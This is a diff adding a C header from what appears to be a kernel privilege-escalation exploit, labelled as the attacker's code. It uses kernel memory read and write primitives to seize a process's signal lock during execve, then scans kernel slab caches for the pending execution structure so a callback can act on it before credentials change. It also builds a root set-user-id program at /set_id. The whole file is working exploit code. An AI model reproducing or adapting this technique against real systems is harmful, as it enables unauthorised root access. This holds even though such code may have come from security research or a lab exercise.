@@ -1,0 +1,114 @@
+/* SPDX-License-Identifier: GPL-2.0-only */
+/*
+ * execution.h - an execve of the attacker's, held between the mapping of the program and the change
+ * of credentials: the attacker takes a lock of the process that it waits for, finds what the kernel
+ * keeps of the execve, and gives the lock back.
+ */
+#pragma once
+#include "attack.h"
+
+#define SET_ID "/set_id" /* root's, with the set-user-id bit */
+#define SLAB_SIZE 128    /* of a descriptor */
+#define HOLDER 1         /* CPU 0 */
+
+/* A file of root with the set-user-id bit: a copy of this program. */
+static inline void make_set_id_program(void)
+{
+	const long from = call3(__NR_open, (long)"/init", O_RDONLY, 0);
+	const long to = call3(__NR_open, (long)SET_ID, O_CREAT | O_WRONLY, 0755);
+
+	call4(__NR_sendfile, to, from, 0, 1 << 20);
+	call2(__NR_fchmod, to, 04755);
+	call1(__NR_close, from);
+	call1(__NR_close, to);
+}
+
+static inline bool is_named(uint64_t cache, const char *name)
+{
+	const uint64_t at = peek(cache + member("heap_cache.name"));
+	uint64_t i = 0;
+
+	while (name[i] && peek8(at + i) == (uint8_t)name[i])
+		i++;
+	return peek8(at + i) == (uint8_t)name[i];
+}
+
+/* In the objects of one slab. 0: there is none. */
+static inline uint64_t execution_in(uint64_t slab, uint64_t cache)
+{
+	const uint64_t base = peek(slab + member("heap_slab.base"));
+	const uint64_t stride = peek32(cache + member("heap_cache.stride"));
+	const uint64_t slots = peek32(cache + member("heap_cache.slots"));
+	const uint64_t first = member("execution.start") + member("program_start.first");
+
+	for (uint64_t i = 0; i < slots; i++)
+		if (peek(base + i * stride + first))
+			return base + i * stride;
+	return 0;
+}
+
+/* The struct execution of an execve that has mapped its program; free ones are all zero. */
+static inline uint64_t find_execution(void)
+{
+	const uint64_t slabs = peek(symbol("heap_slabs_base"));
+	const uint64_t count = peek32(symbol("heap_slab_count"));
+
+	for (uint64_t i = 1; i < count; i++) {
+		const uint64_t slab = slabs + i * SLAB_SIZE;
+		const uint64_t cache = peek(slab + member("heap_slab.cache"));
+		uint64_t found = 0;
+
+		if (cache && is_named(cache, "struct execution"))
+			found = execution_in(slab, cache);
+		if (found)
+			return found;
+	}
+	return 0;
+}
+
+#define ENVIRONMENT_MAX 64
+static const char *environment[ENVIRONMENT_MAX + 1]; /* of the program */
+
+static inline void nothing_more(void)
+{
+}
+
+/* Executes PATH in a child on CPU 1; HELD while it waits, FREED when it goes on. Exit status. */
+static inline int execute_changed(const char *path, void (*held)(uint64_t execution),
+				  void (*freed)(void))
+{
+	static const char *const arguments[] = { "other", NULL };
+	volatile int *const go = (void *)call6(__NR_mmap, 0, 4096, PROT_READ | PROT_WRITE,
+					       MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+	uint64_t lock, execution = 0;
+	long child;
+
+	(void)own_cpu(0);
+	child = fork_program();
+	if (child == 0) {
+		(void)own_cpu(1);
+		*go = 1;
+		while (*go != 2)
+			;
+		call3(__NR_execve, (long)path, (long)arguments, (long)environment);
+		leave(1);
+	}
+	while (*go != 1)
+		sleep_milliseconds(1);
+	lock = peek(child_task(own_task(), child) + member("task.process")) +
+	       member("process.signal_lock") + member("spin_lock.holder");
+	poke_sized(lock, HOLDER, 2);
+	*go = 2;
+	for (int i = 0; i < 500 && !execution; i++) {
+		sleep_milliseconds(1);
+		execution = find_execution();
+	}
+	sleep_milliseconds(3);
+	if (execution)
+		held(execution);
+	else
+		say_part("attacker: no execve to be seen\n");
+	poke_sized(lock, 0, 2);
+	freed();
+	return wait_program(child) >> 8;
+}
